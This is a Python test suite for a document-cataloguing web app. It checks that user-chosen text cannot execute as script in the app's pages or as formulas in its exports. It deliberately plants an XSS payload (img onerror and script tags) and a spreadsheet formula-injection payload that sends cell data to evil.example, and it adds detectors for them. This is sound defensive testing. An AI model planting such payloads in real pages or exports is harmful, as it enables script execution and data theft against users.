"""Formulas and scripts as values of records, titles, own types and names of projects: words everywhere, and nothing
else, on each page of the desk and in each export."""

import csv
import json
import uuid
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from lxml import etree
from playwright.sync_api import Browser

from pictoria_docs.api.project import PROJECT_CONFIG, Project
from pictoria_docs.apps.desk.assembly import make_desk
from pictoria_docs.exchange import formats
from pictoria_docs.exchange.formats.export import needs
from pictoria_docs.exchange.formats.exporters import Need
from pictoria_docs.review.identity.local_directory import LocalDirectory
from pictoria_docs.review.identity.people import Person
from pictoria_docs.review.identity.project_folder import set_title
from pictoria_docs.store import Store
from tests.apps.answering import answering, let_in
from tests.apps.looking import STILL
from tests.own_types import name_types
from tests.programs import needs_chromium

pytestmark = [pytest.mark.slow, needs_chromium]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"evilword")'
SCRIPT = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>${window.pwned=1}<b>evilword</b>'
SIGNS = ("=", "+", "-", "@", "\t", "\r")
"""With which a spreadsheet's formula begins."""
TYPES = {
    "regions": [{"name": "evil", "label": SCRIPT, "base": "figure", "key": "i"}],
    "links": [{"name": "evil_link", "label": FORMULA, "sources": ["evil"], "targets": ["evil"]}],
}
SLUG = "example-catalogue"


@pytest.fixture
def evil(project: Path) -> Path:
    """A project whose every word that a person can choose tries to be more than a word."""
    name_types(project, TYPES)
    file = project / PROJECT_CONFIG
    config = yaml.safe_load(file.read_text(encoding="utf-8"))
    labels = {"en": SCRIPT, "fr": FORMULA}
    config["enrichment"] = {
        "fields": [{"name": "evil_field", "type": "text", "labels": labels, "help": labels}]
    }
    config["publication"] = {"title": {"en": SCRIPT, "fr": FORMULA}, "publisher": FORMULA}
    file.write_text(yaml.safe_dump(config), encoding="utf-8")
    set_title(project, SCRIPT, "x")
    return project


def edits(project: Path) -> tuple[str, list[dict[str, Any]]]:
    """A document, and edits that fill it: fields and titles of entries, texts, types and numbers of regions."""

    def edit(action: str, id: str, kind: str, **changes: Any) -> dict[str, Any]:
        return {"key": uuid.uuid4().hex, "action": action, "id": id, "kind": kind, "changes": changes}

    with Store(project) as store:
        (record,) = store.documents.all()
        store.projection.make(record.id)
        with store.projection.repository(record.id) as repository:
            rows = repository.rows()
    entries = [row for row in rows if row.kind == "entry"][:2]
    captions = [row for row in rows if row.kind == "region" and row.type == "caption"][:2]
    figures = [row for row in rows if row.kind == "region" and row.type == "figure"][:2]
    assert entries and captions and figures
    made = []
    for row, word in zip(entries, (SCRIPT, FORMULA), strict=True):
        made.append(edit("correct", row.id, "entry", title=word))
        for name in ("material", "inscription", "provenance", "evil_field"):
            made.append(edit("add", row.id, "field", name=name, value=word))
    for row, word in zip(captions, (SCRIPT, FORMULA), strict=True):
        made.append(edit("correct", row.id, "region", text=word))
    made.append(edit("correct", figures[0].id, "region", type="evil"))
    return record.id, made


@pytest.fixture
def filled(evil: Path, browser: Browser) -> Iterator[tuple[Any, str, str, list[str]]]:
    """A browser on the project, its address, the document, and the subjects with hostile words."""
    app = make_desk(LocalDirectory(evil, Person("ada", SCRIPT)))
    document, wanted = edits(evil)
    with answering(app) as url:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        let_in(context, app, url)
        answer = context.request.post(
            f"{url}/api/v1/projects/{SLUG}/documents/{document}/edits",
            data=json.dumps({"change_set": uuid.uuid4().hex, "edits": wanted}),
            headers={"Origin": url, "X-Pictoria": "1", "Content-Type": "application/json"},
        )
        told = answer.json()
        assert answer.ok and not told["refused"], told
        yield context, url, document, list(dict.fromkeys(each["id"] for each in wanted))
        context.close()


def test_no_page_of_the_desk_runs_them(filled: tuple[Any, str, str, list[str]]) -> None:
    context, url, document, subjects = filled
    places = [f"/ui/{name}?project={SLUG}" for name in ("figures", "search", "export", "fields")]
    places += [f"/ui/review?project={SLUG}&document={document}&subject={id}" for id in subjects]
    places += ["/ui/", f"/ui/search?project={SLUG}&q=evilword", f"/ui/figures?project={SLUG}&view=sheet"]
    seen = 0
    for place in places:
        page = context.new_page()
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        page.goto(f"{url}{place}")
        page.wait_for_function("() => document.body.innerText.length > 300")
        page.wait_for_function(STILL)
        seen += "evilword" in page.locator("body").inner_text()
        assert page.evaluate("window.pwned") is None, place
        assert page.locator("img[src=x], script:not([src]):has-text('pwned=1')").count() == 0, place
        page.close()
    assert seen > len(subjects), "they are shown, as words"


class Tags(HTMLParser):
    """What of a page runs or loads something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_script = tag == "script"
        self.wrong += [f"<{tag} {name}={value}" for name, value in attrs if name.startswith("on")]
        self.wrong += [f"<{tag} {name}={value}" for name, value in attrs if value == "x" and name == "src"]
        self.wrong += [
            f"{name}={value}" for name, value in attrs if name == "href" and "evil.example" in (value or "")
        ]

    def handle_data(self, data: str) -> None:
        if self.in_script and "pwned=1" in data and "<" in data:
            self.wrong.append(data[:200])

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False


def wrong_in(file: Path) -> list[str]:
    """What of a file would be more than words to whoever opens it."""
    match file.suffix:
        case ".csv":
            with file.open(encoding="utf-8-sig", newline="") as stream:
                return [
                    cell
                    for row in csv.reader(stream)
                    for cell in row
                    if cell.startswith(SIGNS) and "evil" in cell
                ]
        case ".xlsx":
            book = openpyxl.load_workbook(file)
            cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
            formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
            links = [cell.hyperlink.target or "" for cell in cells if cell.hyperlink is not None]
            return [
                *(each for each in formulas if "evil" in each),
                *(each for each in links if "evil" in each),
            ]
        case ".html":
            tags = Tags()
            tags.feed(file.read_text(encoding="utf-8"))
            return tags.wrong
        case ".json" if "iiif" in file.parts:
            return [text for text in strings(json.loads(file.read_text(encoding="utf-8"))) if is_markup(text)]
        case ".xml":
            root = etree.parse(str(file), etree.XMLParser(resolve_entities=False, no_network=True)).getroot()
            names = {etree.QName(node).localname.lower() for node in root.iter(etree.Element)}
            return sorted(names & {"script", "img", "b"})
    return []


def strings(value: Any, *, html: bool = False) -> Iterator[str]:
    """What viewers of IIIF may show as HTML: summaries, and values of metadata and of what is required."""
    if isinstance(value, dict) and value.get("format") != "text/plain":
        for key, inner in value.items():
            yield from strings(inner, html=html or key in ("summary", "value", "requiredStatement"))
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner, html=html)
    elif isinstance(value, str) and html:
        yield value


def is_markup(text: str) -> bool:
    """Whether viewers of IIIF take a text for HTML, and it has more than links and words."""
    return text.startswith("<") and text.endswith(">") and ("<script" in text or 'onerror="' in text)


def test_exports_hold_them_as_words(
    filled: tuple[Any, str, str, list[str]], evil: Path, tmp_path: Path
) -> None:
    found: dict[str, list[str]] = {}
    holding: set[str] = set()
    wanted = [
        name
        for name in formats()
        if name not in ("deposit", "crops", "coco", "yolo", "pdf", "parquet", "arkindex")
    ]
    with Project.open(evil, create=False) as project:
        for language in ("en", "fr"):
            for format in wanted:
                folder = tmp_path / language / format
                address = "https://museum.example/x" if needs(format, Need.BASE_URL) else None
                project.export(folder, format, language=language, base_url=address)
                for file in (each for each in folder.rglob("*") if each.is_file()):
                    if b"evilword" in file.read_bytes() or file.suffix == ".xlsx":
                        holding.add(format)
                    if wrong := wrong_in(file):
                        found[f"{language} {format} {file.name}"] = wrong[:3]
    assert found == {}
    assert {"csv", "xlsx", "html", "iiif", "tei", "json", "lido"} <= holding
